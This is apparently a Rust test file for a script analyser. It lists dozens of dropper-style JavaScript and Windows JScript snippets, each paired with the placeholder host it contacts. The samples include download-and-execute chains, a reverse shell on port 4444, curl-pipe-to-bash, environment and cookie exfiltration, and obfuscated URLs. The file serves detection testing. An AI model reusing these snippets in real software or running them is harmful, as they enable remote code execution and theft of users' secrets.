//! Scripts in the manners of droppers, each with what it contacts: URLs, or hosts with their ports.

use super::run;
use crate::told::contacts;

/// Script and contacts.
const CONTACTS: &[(&str, &[&str])] = &[
    (
        "const http = require('http'), fs = require('fs'), { exec } = require('child_process');
const f = fs.createWriteStream('/tmp/x'); http.get('http://j01.example/x.bin', r => { r.pipe(f); f.on('finish', () => f.close(() => exec('/tmp/x'))); });",
        &["http://j01.example/x.bin"],
    ),
    (
        "const https = require('https'); const u = new URL('/a/b?c=1', 'https://j02.example'); https.get(u, res => {});",
        &["https://j02.example/a/b?c=1"],
    ),
    (
        "const o = { host: 'j03.example', port: 8080, path: '/up', method: 'POST', headers: { 'Content-Type': 'application/json', 'Referer': 'https://www.google.com/' } };
const r = require('http').request(o, (res) => { res.setEncoding('utf8'); res.on('data', (d) => eval(d)); }); r.write(JSON.stringify(process.env)); r.end();",
        &["http://j03.example:8080/up"],
    ),
    (
        r#"(function(){ var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []); var client = new net.Socket(); client.connect(4444, "j04.example", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }); return /a/; })();"#,
        &["j04.example:4444"],
    ),
    (
        "const d = require('dgram').createSocket('udp4'); d.send(Buffer.from('hi'), 53, 'j05.example', () => d.close());",
        &["j05.example:53"],
    ),
    (
        "const dns = require('dns').promises; (async () => { const t = await dns.resolveTxt('j06.example'); eval(Buffer.from(t[0][0], 'base64').toString()); })();",
        &["j06.example"],
    ),
    (
        "const { promisify } = require('util'); const ex = promisify(require('child_process').exec);
async function main() { await ex(`curl -fsSL http://j07.example/s.sh | bash`); } main();",
        &["http://j07.example/s.sh"],
    ),
    (
        "const axios = require('axios').default; axios({ method: 'post', url: 'http://j08.example/p', data: { a: 1 } }).then(r => { require('vm').runInThisContext(r.data); });",
        &["http://j08.example/p"],
    ),
    (
        "const inst = require('axios').create({ baseURL: 'http://j09.example/api', timeout: 1000 }); inst.get('/q').then(({ data }) => new Function(data)());",
        &["http://j09.example/api/q"],
    ),
    (
        "const got = require('got'); got('http://j10.example/g').then(r => eval(r.body)); ",
        &["http://j10.example/g"],
    ),
    (
        "require('request')({ uri: 'http://j11.example/r', json: true }, function (e, r, b) { eval(b.code); });",
        &["http://j11.example/r"],
    ),
    (
        "const fetch = require('node-fetch'); fetch('http://j12.example/nf', { method: 'POST', body: 'x' }).then(r => r.text()).then(eval);",
        &["http://j12.example/nf"],
    ),
    (
        "const { Worker, isMainThread } = require('worker_threads'); if (isMainThread) { new Worker(`require('http').get('http://j13.example/w')`, { eval: true }); }",
        &["http://j13.example/w"],
    ),
    (
        "const zlib = require('zlib'); const s = zlib.inflateSync(Buffer.from('eJwrSi0sTS0u0VDPKCkpUNcEABzfBFM=', 'base64')).toString(); require('http').get('http://j14.example/z');",
        &["http://j14.example/z"],
    ),
    (
        "const E = require('events'); const em = new E(); em.on('go', (u) => require('http').get(u)); setTimeout(() => em.emit('go', 'http://j16.example/e'), 100);",
        &["http://j16.example/e"],
    ),
    (
        "module.exports = { run() { fetch('http://j17.example/m'); } }; if (require.main === module) module.exports.run();",
        &["http://j17.example/m"],
    ),
    (
        "process.on('exit', () => {}); const os = require('os'); const u = os.platform() === 'win32' ? 'http://j18.example/q' : 'http://j18.example/q'; require('https'); require('http').get(u, { headers: { 'User-Agent': 'x' } }, () => {});",
        &["http://j18.example/q"],
    ),
    (
        "const i = document.createElement('iframe'); i.setAttribute('src', 'http://j20.example/b1'); i.style.display = 'none'; document.body.appendChild(i);",
        &["http://j20.example/b1"],
    ),
    (
        "var s = document.createElement('script'); s.async = true; s.src = '//j21.example/b2'.replace(/^/, 'http:'); (document.head || document.documentElement).appendChild(s);",
        &["http://j21.example/b2"],
    ),
    (
        r#"document.getElementById('x').innerHTML = '<img src="http://j22.example/b3" onerror="1">';"#,
        &["http://j22.example/b3"],
    ),
    (
        "window['loc' + 'ation']['hr' + 'ef'] = 'http://j23.example/b4';",
        &["http://j23.example/b4"],
    ),
    ("top.location = atob('aHR0cDovL2oyNC5leGFtcGxlL2I1');", &["http://j24.example/b5"]),
    (
        "self.location.assign(decodeURIComponent(escape(window.atob('aHR0cDovL2oyNS5leGFtcGxlL2I2'))));",
        &["http://j25.example/b6"],
    ),
    (
        "const w = new WebSocket('wss://j26.example/ws'); w.onmessage = e => Function(e.data)();",
        &["wss://j26.example/ws"],
    ),
    (
        "new EventSource('http://j27.example/es').addEventListener('message', e => eval(e.data));",
        &["http://j27.example/es"],
    ),
    (
        "addEventListener('unload', () => navigator.sendBeacon('http://j28.example/sb', document.cookie));",
        &["http://j28.example/sb"],
    ),
    (
        r#"const b = new Blob(["importScripts('http://j29.example/is')"], { type: 'text/javascript' }); new Worker(URL.createObjectURL(b));"#,
        &["http://j29.example/is"],
    ),
    (
        "import('http://j30.example/di.js').then(m => m.default());",
        &["http://j30.example/di.js"],
    ),
    (
        "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://j31.example/css.css'; document.head.append(l);",
        &["https://j31.example/css.css"],
    ),
    (
        "var f = document.createElement('form'); f.method = 'POST'; f.action = 'http://j32.example/form'; document.body.appendChild(f); f.submit();",
        &["http://j32.example/form"],
    ),
    (
        "const x = new XMLHttpRequest(); x.open('POST', 'http://j33.example/x', true); x.setRequestHeader('Referer','http://refer.example/'); x.onreadystatechange = function () { if (x.readyState == 4 && x.status == 200) eval(x.responseText); }; x.send(null);",
        &["http://j33.example/x"],
    ),
    (
        "document.addEventListener('DOMContentLoaded', () => { document.querySelector('#b').addEventListener('click', () => window.open('http://j34.example/dl', '_blank')); });",
        &["http://j34.example/dl"],
    ),
    (
        r#"window.onload = function () { setTimeout("location.href='http://j35.example/win'", 3000); };"#,
        &["http://j35.example/win"],
    ),
    (
        "$(document).ready(function () { $.ajax({ url: 'http://j36.example/jq', type: 'POST', data: $('#f').serialize(), success: function (d) { $('body').append(d); } }); });",
        &["http://j36.example/jq"],
    ),
    ("jQuery.post('http://j37.example/jp', { a: 1 }); ", &["http://j37.example/jp"]),
    ("$('#c').load('http://j38.example/ld #part');", &["http://j38.example/ld"]),
    (
        "if ('serviceWorker' in navigator) navigator.serviceWorker.register('http://j39.example/sw.js');",
        &["http://j39.example/sw.js"],
    ),
    (
        "const q = new Request('http://j40.example/req', { method: 'PUT' }); fetch(q);",
        &["http://j40.example/req"],
    ),
    (
        "(new Image).src = 'http://j41.example/ld?c=' + encodeURIComponent(document.cookie);",
        &["http://j41.example/ld?c="],
    ),
    (
        "const p = new URLSearchParams({ x: 1 }); fetch(`http://j42.example/p?${p}`);",
        &["http://j42.example/p?x=1"],
    ),
    (
        r#"var sh = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0"); x.open("GET", "http://j50.example/w.exe", 0); x.setOption(2, 13056); x.send();
var st = new ActiveXObject("ADODB.Stream"); st.open(); st.type = 1; st.write(x.responseBody); st.saveToFile(sh.ExpandEnvironmentStrings("%TEMP%") + "\\w.exe", 2); st.close(); sh.Run("%TEMP%\\w.exe", 0);"#,
        &["http://j50.example/w.exe"],
    ),
    (
        "/*@cc_on @if (@_jscript) var u = 'http://j51.example/cc'; @end @*/
var h = WScript.CreateObject('WinHttp.WinHttpRequest.5.1'); h.Open('GET', u, false); h.Send(); eval(h.ResponseText);",
        &["http://j51.example/cc"],
    ),
    (
        r#"var w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2"); var en = new Enumerator(w.ExecQuery("select * from Win32_OperatingSystem"));
for (; !en.atEnd(); en.moveNext()) { var o = en.item(); if (o.Caption) { w.Get("Win32_Process").Create("mshta http://j52.example/en", null, null, null); } }"#,
        &["http://j52.example/en"],
    ),
    (
        r#"var urls = ["http://j53.example/a", "http://j53b.example/b"], ok = 0; for (var i in urls) { try { var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", urls[i], false); x.send(); if (x.status == 200) { ok = 1; break; } } catch (e) {} }"#,
        &["http://j53.example/a", "http://j53b.example/b"],
    ),
    (
        r#"var s = WScript.CreateObject("WScript.Shell"); s.RegWrite("HKCU\\Software\\x\\u", "http://j54.example/reg"); var u = s.RegRead("HKCU\\Software\\x\\u"); var x = new ActiveXObject("Microsoft.XMLHTTP"); x.open("GET", u, false); x.send();"#,
        &["http://j54.example/reg"],
    ),
    (
        r#"var d = new ActiveXObject("Scripting.Dictionary"); d.Add("a", "http://"); d.Add("b", "j55.example/d"); var k = (new VBArray(d.Items())).toArray(); var x = new ActiveXObject("Microsoft.XMLHTTP"); x.Open("GET", k.join(""), false); x.Send();"#,
        &["http://j55.example/d"],
    ),
    (
        r#"var x = new ActiveXObject("Microsoft.XMLDOM"); var e = x.createElement("t"); e.dataType = "bin.base64"; e.text = "aHR0cDovL2o1Ny5leGFtcGxlL2RvbQ=="; var b = e.nodeTypedValue; var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(b); s.Position = 0; s.Type = 2; s.Charset = "us-ascii"; var u = s.ReadText(); var h = new ActiveXObject("Msxml2.XMLHTTP"); h.open("GET", u, false); h.send();"#,
        &["http://j57.example/dom"],
    ),
    (
        r#"function fn() {/*http://j58.example/fn*/} var u = fn.toString().split('/*')[1].split('*/')[0]; var h = new ActiveXObject("Msxml2.XMLHTTP"); h.open("GET", u, false); h.send();"#,
        &["http://j58.example/fn"],
    ),
    (
        r#"var t = WScript.Arguments.length > 0 ? WScript.Arguments(0) : 'http://j59.example/args'; var h = new ActiveXObject("Msxml2.XMLHTTP"); h.open("GET", t, false); h.send(); WScript.Quit();"#,
        &["http://j59.example/args"],
    ),
    (
        "var b64 = 'TVqQAAMAAAAEAAAA'; var bin = atob(b64); var a = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) a[i] = bin.charCodeAt(i); var bl = new Blob([a], { type: 'octet/stream' }); var n = document.createElement('a'); n.href = URL.createObjectURL(bl); n.download = 'x.exe'; n.click(); fetch('http://j60.example/after');",
        &["http://j60.example/after"],
    ),
    (
        "const h = { get(t, k) { return k === 'u' ? 'http://j61.example/px' : Reflect.get(t, k); } }; const p = new Proxy({}, h); fetch(p.u);",
        &["http://j61.example/px"],
    ),
    (
        "function* g() { yield 'a'; yield* ['b', 'c']; } fetch('http://j62.example/' + [...g()].join(''));",
        &["http://j62.example/abc"],
    ),
    (
        "const t = (s, ...v) => s.raw.map((x, i) => x + (v[i] || '')).join(''); fetch(t`http://${'j63.example'}/tt`);",
        &["http://j63.example/tt"],
    ),
    (
        "class C { #u = 'http://j64.example/'; static async *it() { yield 'aa'; } async go() { for await (const x of C.it()) await fetch(this.#u + x); } } new C().go();",
        &["http://j64.example/aa"],
    ),
    (
        "let n = 0; const t = setInterval(() => { if (++n === 3) { clearInterval(t); fetch('http://j65.example/i' + n); } }, 10);",
        &["http://j65.example/i3"],
    ),
    (
        "fetch(new TextDecoder().decode(new Uint8Array([104,116,116,112,58,47,47,106,54,54,46,101,120,97,109,112,108,101,47,116,100])));",
        &["http://j66.example/td"],
    ),
    (
        "document.querySelectorAll('input[type=submit]').forEach(b => b.addEventListener('mousedown', () => { const d = {}; document.querySelectorAll('input,select').forEach(e => { if (e.name) d[e.name] = e.value; }); const i = new Image(); i.src = 'https://j68.example/collect'; }));",
        &["https://j68.example/collect"],
    ),
    (
        ";(function(o, q, f, w) { var e = o.referrer; if (!f) { var s = q.createElement('script'); s.src = 'https://j69.example/report'; var z = q.getElementsByTagName('script')[0]; z.parentNode.insertBefore(s, z); } })(document, document, false, window);",
        &["https://j69.example/report"],
    ),
    (
        "chrome.runtime.onInstalled.addListener(() => { chrome.tabs.create({ url: 'http://j70.example/c' }); });",
        &["http://j70.example/c"],
    ),
    (
        "import https from 'https'; import { execSync } from 'node:child_process'; import fs from 'fs/promises';
execSync('wget -q http://j71.example/es -O /tmp/es && sh /tmp/es');",
        &["http://j71.example/es"],
    ),
    (
        "const cp = require('child_process'); cp.execFile('bash', ['-c', 'curl -s http://j72.example/k | sh'], () => {}); ",
        &["http://j72.example/k"],
    ),
    (
        "const u = Buffer.from('aHR0cDovL2o3My5leGFtcGxlL2s=', 'base64').toString('utf-8'); require('http').get(u, r => r.on('data', c => c));",
        &["http://j73.example/k"],
    ),
];

#[test]
fn what_scripts_contact() {
    contacts(CONTACTS, run);
}
